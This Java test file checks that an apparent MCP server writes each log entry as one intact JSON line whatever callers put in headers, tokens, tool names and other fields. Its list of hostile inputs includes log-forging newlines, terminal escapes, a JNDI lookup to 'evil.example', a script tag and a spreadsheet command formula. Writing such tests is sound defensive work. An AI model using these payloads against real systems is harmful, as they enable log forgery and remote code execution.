package ai.equalto.lesserbody.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ai.equalto.lesserbody.TestServer;
import ai.equalto.lesserbody.audit.EmfReader;
import ai.equalto.lesserbody.auth.TestTokens;
import ai.equalto.lesserbody.jsonrpc.Json;
import ai.equalto.lesserbody.jsonrpc.JsonSyntaxException;
import ai.equalto.lesserbody.testkit.ShowingPack;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Puts what would forge, hide or colour a log line wherever a caller can put anything. */
class LogInjectionTest {
  private static final int MAX_LINE = 32 * 1024;

  private static final List<String> HOSTILE =
      List.of(
          "a\nb",
          "a\r\n{\"time\":\"2026-03-01T12:00:00Z\",\"event\":\"tool_call\"}",
          "\",\"outcome\":\"ok",
          "\"}\n{\"time\":\"",
          "\\\",\"seq\":1,\"x\":\"\\",
          "a\\",
          "a\\u000ab",
          "%0aevent",
          "\u001b[2J\u001b[31m",
          "\0",
          "a\0b",
          "\u0007\b\f\u000b",
          "a\u0085b\u009b31m",
          "a\u2028b\u2029c",
          "\u202eecila\u2066\u2069",
          "\ufeffa\u200b",
          "a\ud800",
          "\udc00a",
          "é😀",
          "\u007f",
          "${jndi:ldap://evil.example/a} %s %n {}",
          "<script>alert(1)</script>",
          "=cmd|' /C calc'!A0",
          " ",
          "x".repeat(100_000),
          "\u2028".repeat(3_000),
          "😀\n".repeat(2_000));

  private static final Set<String> LINK = Set.of("env", "seq", "prev", "function", "_aws");
  private static final Set<String> METRICS =
      Set.of("calls", "errors", "denials", "auth_failures", "cold_starts");
  private static final Set<String> FAILURE =
      Set.of(
          "time",
          "event",
          "request_id",
          "reason",
          "locked_out",
          "token_hash",
          "source_ip",
          "user_agent");
  private static final Set<String> FAULT =
      Set.of("time", "event", "level", "request_id", "exceptions");
  private static final Set<String> CALL =
      Set.of(
          "time",
          "event",
          "request_id",
          "identity",
          "principal_type",
          "scope_needed",
          "outcome",
          "duration_ms",
          "protocol_version",
          "client_name");
  private static final Map<String, String> NAMES =
      Map.of(
          "tool_call", "tool",
          "resource_read", "resource",
          "prompt_get", "prompt",
          "completion", "completes");

  private final TestServer server = new TestServer(Map.of(), ShowingPack.create());

  /** Where a caller, or a gateway that was made to, can put a text. */
  enum Place {
    USER_AGENT_OF_A_CALL,
    USER_AGENT_OF_A_STRANGER,
    AUTHORIZATION,
    TOKEN,
    KEY_ID,
    USERNAME,
    JWT_ID,
    TOOL,
    RESOURCE,
    PROMPT,
    COMPLETION,
    ARGUMENT,
    CLIENT_NAME,
    CLIENT_NAME_OF_A_SESSION,
    PROTOCOL_VERSION,
    REQUEST_ID,
    SOURCE_ADDRESS,
    SIGNER,
    HEADER_NAME
  }

  @ParameterizedTest
  @EnumSource(Place.class)
  void noTextLeavesItsFieldOfTheLog(Place place) {
    put(place, "harmless");
    assertThat(server.log()).as("what is logged of the place").isNotEmpty();

    for (String hostile : HOSTILE) {
      put(place, hostile);
      put(place, "a" + hostile);
    }

    assertThat(server.log()).allSatisfy(LogInjectionTest::assertOneWholeLine);
  }

  @Test
  void theTableOfFieldsWouldNoticeAnotherOne() {
    put(Place.TOOL, "harmless");
    String forged = server.log().getFirst().replace("\"seq\":", "\"extra\":1,\"seq\":");

    assertThatThrownBy(() -> assertOneWholeLine(forged)).isInstanceOf(AssertionError.class);
  }

  private static void assertOneWholeLine(String line) throws JsonSyntaxException {
    assertThat(line.matches("[ -~]{1," + MAX_LINE + "}")).as(line).isTrue();
    JsonNode json = Json.read(line.getBytes(StandardCharsets.UTF_8));
    Set<String> fields = new TreeSet<>();
    json.properties().forEach(field -> fields.add(field.getKey()));
    String event = json.path("event").textValue();
    if (event.equals("fault")) {
      assertThat(fields).containsExactlyInAnyOrderElementsOf(FAULT);
      return;
    }
    assertThat(new EmfReader(json).metrics()).isNotEmpty();
    fields.removeAll(METRICS);
    Set<String> expected = new TreeSet<>(LINK);
    expected.addAll(event.equals("auth_failure") ? FAILURE : CALL);
    if (NAMES.containsKey(event)) {
      expected.add(NAMES.get(event));
    }
    assertThat(fields).containsExactlyElementsOf(expected);
  }

  private void put(Place place, String text) {
    ObjectNode event = event("/mcp", "tools/call", name("echo"));
    ObjectNode headers = (ObjectNode) event.get("headers");
    ObjectNode context = (ObjectNode) event.get("requestContext");
    ObjectNode address = (ObjectNode) context.get("identity");
    switch (place) {
      case USER_AGENT_OF_A_CALL -> headers.put("User-Agent", text);
      case USER_AGENT_OF_A_STRANGER -> headers.put("User-Agent", text).remove("Authorization");
      case AUTHORIZATION -> headers.put("Authorization", text);
      case TOKEN -> headers.put("Authorization", "Bearer " + text);
      case KEY_ID -> authorize(headers, Json.object().put("kid", text), Json.object());
      case USERNAME -> authorize(headers, Json.object(), Json.object().put("username", text));
      case JWT_ID -> authorize(headers, Json.object(), Json.object().put("jti", text));
      case PROTOCOL_VERSION -> headers.put("MCP-Protocol-Version", text);
      case HEADER_NAME -> headers.put(text, text);
      case REQUEST_ID -> context.put("requestId", text);
      case SOURCE_ADDRESS -> {
        address.put("sourceIp", text);
        headers.remove("Authorization");
      }
      case SIGNER -> {
        event = event("/iam/mcp", "tools/call", name("echo"));
        ((ObjectNode) event.at("/requestContext/identity")).put("userArn", text);
      }
      case TOOL, RESOURCE, PROMPT, COMPLETION, ARGUMENT, CLIENT_NAME -> event = call(place, text);
      case CLIENT_NAME_OF_A_SESSION -> event = callInASession(text);
    }
    server.send(Json.writeAscii(event));
  }

  private static ObjectNode name(String name) {
    ObjectNode params = Json.object().put("name", name);
    params.putObject("arguments").put("message", "x");
    return params;
  }

  private static ObjectNode call(Place place, String text) {
    return switch (place) {
      case TOOL -> event("/mcp", "tools/call", name(text));
      case RESOURCE -> event("/mcp", "resources/read", Json.object().put("uri", text));
      case PROMPT -> event("/mcp", "prompts/get", Json.object().put("name", text));
      case COMPLETION -> {
        ObjectNode params = Json.object();
        params.putObject("ref").put("type", "ref/prompt").put("name", text);
        params.putObject("argument").put("name", text).put("value", text);
        yield event("/mcp", "completion/complete", params);
      }
      case ARGUMENT -> {
        ObjectNode params = name("echo");
        params.putObject("arguments").put("message", text).put(text, text);
        yield event("/mcp", "tools/call", params);
      }
      default -> {
        ObjectNode params = name("echo");
        params
            .putObject("_meta")
            .putObject("io.modelcontextprotocol/clientInfo")
            .put("name", text)
            .put("version", text);
        yield event("/mcp", "tools/call", params);
      }
    };
  }

  private ObjectNode callInASession(String client) {
    ObjectNode hello = Json.object().put("protocolVersion", "2025-11-25");
    hello.putObject("capabilities");
    hello.putObject("clientInfo").put("name", client).put("version", client);
    String session =
        server
            .send(Json.writeAscii(legacy("initialize", hello)))
            .headers()
            .getOrDefault("Mcp-Session-Id", "none");
    ObjectNode call = legacy("tools/call", name("echo"));
    ((ObjectNode) call.get("headers"))
        .put("Mcp-Session-Id", session)
        .put("MCP-Protocol-Version", "2025-11-25");
    return call;
  }

  private static ObjectNode legacy(String method, ObjectNode params) {
    ObjectNode event = event("/mcp", method, params);
    ObjectNode headers = (ObjectNode) event.get("headers");
    headers.remove(List.of("MCP-Protocol-Version", "Mcp-Method", "Mcp-Name"));
    return event.put("body", body(method, params));
  }

  private static String body(String method, ObjectNode params) {
    ObjectNode message = Json.object().put("jsonrpc", "2.0").put("id", 1).put("method", method);
    message.set("params", params);
    return Json.writeAscii(message);
  }

  private static ObjectNode event(String path, String method, ObjectNode given) {
    ObjectNode params = given.deepCopy();
    ObjectNode meta = params.withObject("/_meta");
    meta.put("io.modelcontextprotocol/protocolVersion", "2026-07-28");
    meta.putObject("io.modelcontextprotocol/clientCapabilities");
    ObjectNode event = Json.object().put("httpMethod", "POST").put("path", path);
    event
        .putObject("headers")
        .put("Authorization", "Bearer " + TestServer.token("alice", "read"))
        .put("Content-Type", "application/json")
        .put("MCP-Protocol-Version", "2026-07-28")
        .put("Mcp-Method", method)
        .put("Mcp-Name", params.path("name").asText(params.path("uri").asText("")));
    event.put("body", body(method, params)).put("isBase64Encoded", false);
    event
        .putObject("requestContext")
        .put("requestId", "request-1")
        .put("path", "/live" + path)
        .putObject("identity")
        .put("sourceIp", "192.0.2.1");
    return event;
  }

  private static void authorize(ObjectNode headers, ObjectNode header, ObjectNode claims) {
    header.put("alg", "HS256");
    long now = TestTokens.NOW.getEpochSecond();
    claims.put("iat", now).put("exp", now + 60).put("scope", "read");
    if (!claims.has("username")) {
      claims.put("username", "alice");
    }
    String token = TestTokens.sign(Json.writeAscii(header), Json.writeAscii(claims));
    headers.put("Authorization", "Bearer " + token);
  }
}
